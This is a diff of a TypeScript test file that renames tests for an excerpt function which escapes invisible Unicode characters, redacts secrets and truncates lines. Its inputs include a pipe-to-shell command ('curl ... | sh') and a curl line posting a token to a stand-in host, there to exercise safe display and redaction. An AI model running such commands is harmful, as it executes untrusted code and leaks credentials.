@@ -5,12 +5,12 @@ function check(text: string, expected: string) {
   expect(shownExcerpt(text)).toBe(expected);
 }
 
-test('what can be seen stays as it is', () => {
+test('visible text is unchanged', () => {
   check('curl https://example.com | sh', 'curl https://example.com | sh');
   check('  Überschrift 日本 🙂 ', 'Überschrift 日本 🙂');
 });
 
-test('what a reader would not see is written out', () => {
+test('invisible characters are escaped', () => {
   check('a\u200bb', 'a\\u{200b}b');
   check('a\u202eb', 'a\\u{202e}b');
   check('a\u{e0041}b', 'a\\u{e0041}b');
@@ -23,7 +23,7 @@ test('a secret on the same line is not shown', () => {
   check(`curl -d ${key} https://x.example`, 'curl -d [redacted:github-token] https://x.example');
 });
 
-test('it is one line of at most 200 characters', () => {
+test('an excerpt is one line of at most 200 characters', () => {
   check('one\r\n\ttwo', 'one   two');
   check(`${' '.repeat(2_000)}far`, 'far');
   check('x'.repeat(200), 'x'.repeat(200));
@@ -31,7 +31,7 @@ test('it is one line of at most 200 characters', () => {
   check('🙂'.repeat(300), `${'🙂'.repeat(199)}…`);
 });
 
-test('what was shown is not changed when it is shown again', () => {
+test('showing an excerpt twice changes nothing more', () => {
   const once = shownExcerpt(`a\u200b${'x'.repeat(300)}`);
   check(once, once);
 });
